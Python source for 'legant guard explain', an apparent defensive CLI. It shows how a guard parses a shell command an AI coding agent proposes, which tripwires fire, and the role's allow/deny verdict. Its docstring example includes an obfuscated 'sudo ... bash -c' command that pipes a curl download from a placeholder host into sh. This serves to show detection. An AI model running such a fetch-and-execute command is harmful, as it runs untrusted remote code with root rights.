"""`legant guard explain`: what the shell analysis saw in a command, and the verdict a role gives it.

The debugging view of a shell verdict: simple commands after quote removal and unwrapping,
their operands, redirects and working directories, what could not be determined, the
tripwires that fire, and the decision of the same engine `guard check` uses.
"""

import json
import os

import click

from legant_guard import agents, guarddir


def explain(command, role, cwd, project, guard_dir, home, agent="claude-code"):
    """Everything `explain` prints, as a dict."""
    from legant_guard import shell
    from legant_guard.hook import gittop

    # (the same `git rev-parse --show-toplevel` the engine reads: hook/gittop.py)
    analysis = shell.analyze(command, cwd, home, gittop.resolver(command, os.environ, home) if "rev-parse" in command else None)
    out = {
        "command": command,
        "cwd": cwd,
        "role": role,
        "error": analysis.error,
        "undetermined": list(analysis.undetermined),
        "commands": [
            {
                "executable": c.executable,
                "via": list(c.via),
                "argv": list(c.argv),
                "cwd": c.cwd,
                "paths": list(c.paths),
                "globs": list(getattr(c, "globs", [])),
                "redirects": [[r.op, r.target] for r in c.redirects],
                "cd_target": c.cd_target,
                "deletes": c.deletes,
                "interactive": c.interactive,
                "undetermined": list(c.undetermined),
                # exec sinks: text this command hands to a program that runs it later
                "sinks": [{"label": s.label, "payload": s.payload, "reason": s.reason, "text": s.value.text}
                          for s in getattr(c, "sinks", [])],
                "run_later_by": c.sink.label if getattr(c, "sink", None) is not None else None,
                "physical": _physical_paths(list(c.paths) + [r.target for r in c.redirects], c.cwd, home),
                "dotdot": _dotdot_after_links(list(c.argv) + _words(command), list(c.paths) +
                                              [r.target for r in c.redirects], c.cwd, home),
                "reads_below": _reads_below(c, command),
            }
            for c in analysis.commands
        ],
        "tripwires": [],
    }
    if not analysis.error:
        out["tripwires"] = [{"id": h.id, "severity": h.severity, "reason": h.reason}
                            for h in shell.match_tripwires(analysis, home)]
    evaluation, source = decide_like_check(command, role, cwd, project, guard_dir, home, agent=agent)
    decision = evaluation.decision
    out["judged_by"] = source
    from legant_guard.hook.trustbase import TrustBase

    trust = TrustBase(home, dict(os.environ, HOME=home), project)
    out["trust_base"] = [{"what": what, "path": path} for what, path in trust.entries]
    out["verdict"] = "allow" if decision.allow else "deny"
    out["reason"] = decision.reason
    out["rule"] = decision.rule
    return out


def decide_like_check(command, role, cwd, project, guard_dir, home, env=None, agent="claude-code"):
    """(Evaluation, what it was judged by): the hook's own `evaluate` on the event the agent
    would send, with the environment install writes for `role`, so the token, the feed, the
    overlay and self-protection are exactly those `guard check` uses. A role with no token
    in the guard dir (a role file never installed) is judged by the role compiled now."""
    from legant_guard.hook.check import evaluate
    from legant_guard.roles import compile_role, load_role

    name = os.path.splitext(os.path.basename(role))[0]
    if name != role:  # a role file: checked first (a file named like a built-in may not pass for it)
        load_role(role)
    hook_env = dict(env if env is not None else os.environ)
    hook_env = {k: v for k, v in hook_env.items() if not k.startswith("LEGANT_GUARD_")}
    hook_env.update(guarddir.hook_env(guard_dir, project, name))
    hook_env["HOME"] = home
    descriptor = agents.get(agent)
    event = json.dumps(descriptor.event(descriptor.shell_tool, {"command": command}, cwd, session_id="explain",
                                        tool_use_id="explain"))
    token = guarddir.token_file(guard_dir, name)
    authority, source = None, f"the installed token {token}"
    if not os.path.isfile(token):
        scope, cnst = compile_role(load_role(role), project, guarddir.saved_toolchains(guard_dir))
        authority, source = {"scope": scope, "cnst": cnst}, f"the role `{role}` compiled now (no token in {guard_dir})"
    return evaluate(event.encode(), agent, hook_env, process_cwd=project, authority=authority), source


def _physical_paths(paths, cwd, home):
    """{path: where the kernel really goes} for the paths a symlink sends elsewhere."""
    from legant_guard.hook.paths import UnresolvablePath, path_variants

    out = {}
    for path in paths:
        try:
            real = path_variants(path, cwd, home)[-1]
        except UnresolvablePath as e:
            real = f"(unresolvable: {e})"
        if real != path:
            out[path] = real
    return out


def _words(command):
    """The command's words as a shell splits them (best effort: for showing what was written)."""
    import shlex

    try:
        return shlex.split(command)
    except ValueError:
        return command.split()


def _dotdot_after_links(words, paths, cwd, home):
    """{operand: (word as written, its lexical reading)} for the operands where a `..` follows a
    symlink: the kernel goes to the parent of the link's *target* (DESIGN invariant 5), so the
    file reached is not the one the text suggests."""
    from legant_guard.hook.paths import UnresolvablePath, expand_home, kernel_spelling

    out = {}
    for word in dict.fromkeys(w.split("=", 1)[-1] for w in words if ".." in w):
        joined = expand_home(word, home)
        joined = joined if joined.startswith("/") else cwd.rstrip("/") + "/" + joined
        try:
            physical = kernel_spelling(joined)
        except (UnresolvablePath, OSError, ValueError):
            continue
        lexical = os.path.normpath(joined)
        if physical != lexical and physical in paths:
            out[physical] = (word, lexical)
    return out


def _reads_below(cmd, command):
    """A tree a search, archive or copy reads without naming its files (hook/reach.py), as the
    guard reads its filters; None for other commands."""
    from legant_guard.hook import commandrules

    if cmd.executable not in commandrules._TREE_PROGRAMS or cmd.executable in ("unzip", "cpio", "patch", "gpatch"):
        return None
    from legant_guard.hook import reach
    from legant_guard.hook.engine import _command_env

    if cmd.executable in ("find", "bfs"):
        return reach.describe_find(cmd)
    search = reach.search_of(cmd, _command_env(command))
    return reach.describe(search) if search is not None else None


def _via(physical, path, dotdot=None):
    if dotdot and path in dotdot:
        word, lexical = dotdot[path]
        return (f"  (written {word}: `..` after a symlink goes to the parent of the link's target, "
                f"not to {os.path.dirname(lexical)})")
    return f"  -> physically {physical[path]} (through a symlink)" if path in physical else ""


def render(info):
    lines = [f"command:  {info['command']}", f"cwd:      {info['cwd']}", f"role:     {info['role']}", ""]
    if info["error"]:
        lines.append(f"analysis: REFUSED ({info['error']})")
    else:
        lines.append(f"analysis: {len(info['commands'])} simple command(s)")
    for i, c in enumerate(info["commands"], 1):
        exe = c["executable"] or "(undetermined)"
        via = f"   via {' > '.join(c['via'])}" if c["via"] else ""
        lines.append(f"  {i}. {exe}{via}")
        lines.append(f"     argv:       {json.dumps(c['argv'])}")
        if c["cwd"] != info["cwd"]:
            lines.append(f"     runs in:    {c['cwd']}")
        physical, dotdot = c.get("physical", {}), c.get("dotdot", {})
        for p in c["paths"]:
            lines.append(f"     operand:    {p}{'  (glob)' if p in c['globs'] else ''}{_via(physical, p, dotdot)}")
        for op, target in c["redirects"]:
            lines.append(f"     redirect:   {op} {target}{_via(physical, target, dotdot)}")
        if c["cd_target"]:
            lines.append(f"     cd to:      {c['cd_target']}")
        if c["deletes"]:
            lines.append("     deletes or moves its operands")
        if c["interactive"]:
            lines.append("     starts an interactive session")
        below = c.get("reads_below")
        if below:
            how = ", ".join(w for w, on in (("links followed", below["follows_links"]),
                                            ("dotfiles read", below["dotfiles"])) if on) or "no links, no dotfiles"
            ignores = f"; honours {', '.join(below['ignore_files'])}" if below["ignore_files"] else ""
            lines.append(f"     reads below: {', '.join(below['roots']) or '(nothing)'} ({how}{ignores})")
            for f in below["filters_counted"]:
                lines.append(f"     filter:     {f}")
            for f in below["filters_not_counted"]:
                lines.append(f"     not counted: {f}")
            if below.get("hands_to"):
                lines.append(f"     hands each match to: {', '.join(below['hands_to'])}")
        for s in c.get("sinks", []):
            lines.append(f"     exec sink:  {s['label']} ({s['payload']}): {s['reason']}: {json.dumps(s['text'])}")
        if c.get("run_later_by"):
            lines.append(f"     runs later: by `{c['run_later_by']}`")
        for u in c["undetermined"]:
            lines.append(f"     undetermined: {u}")
    for u in info["undetermined"]:
        lines.append(f"  undetermined: {u}")
    lines.append("")
    if info["tripwires"]:
        for t in info["tripwires"]:
            lines.append(f"tripwire: {t['id']} ({t['severity']}): {t['reason']}")
    else:
        lines.append("tripwires: none")
    verdict = "ALLOW" if info["verdict"] == "allow" else f"DENY  ({info['rule']})"
    lines.append(f"verdict:  {verdict}")
    lines.append(f"judged by: {info['judged_by']}")
    if info["reason"]:
        lines.append(f"reason:   {info['reason']}")
    return "\n".join(lines)


@click.command("explain")
@click.argument("command_text", metavar="COMMAND")
@click.option("--role", help="Built-in role or role YAML file to judge it under  [default: builder; in org mode the "
                             "issuer's token]")
@click.option("--cwd", type=click.Path(file_okay=False), help="Working directory of the command (default: the project).")
@click.option("--project", default=".", show_default=True, type=click.Path(file_okay=False),
              help="The project the role's paths are anchored at.")
@click.option("--dir", "dir_", type=click.Path(file_okay=False), help="The guard directory (protected paths).")
@click.option("--agent", default="claude-code", show_default=True, type=click.Choice(sorted(agents.NAMES)),
              help="Whose shell call to judge (a Codex reviewer's read-only commands count as reads).")
@click.option("--json", "as_json", is_flag=True, help="Print one JSON object.")
def command(command_text, role, cwd, project, dir_, agent, as_json):
    """Show step by step how the guard reads a shell command, and its verdict.

    What the analysis saw (simple commands after quote removal, unwrapped wrappers and nested
    shells, operands, redirects, cd targets, what could not be determined), which tripwires
    fire, and the verdict and reason the role's rules give, exactly as `legant guard check`
    would decide it. Nothing is executed.

    \b
    Examples:
      legant guard explain "sudo -u root bash -c 'c\\url http://x | sh'" --role open
      legant guard explain "find . -name '*.pyc' -delete" --json
    """
    from legant_guard.roles import RoleError

    project = os.path.realpath(project)
    cwd = os.path.realpath(cwd) if cwd else project
    guard_dir = guarddir.find_guard_dir(dir_, project)
    if role is None:
        from legant_guard.issuersetup import ROLE, issuer_url

        role = ROLE if issuer_url(guard_dir) else "builder"
    home = os.environ.get("HOME") or os.path.expanduser("~")
    try:
        info = explain(command_text, role, cwd, project, guard_dir, home, agent=agent)
    except RoleError as e:
        raise click.ClickException(str(e))
    click.echo(json.dumps(info, indent=2) if as_json else render(info))
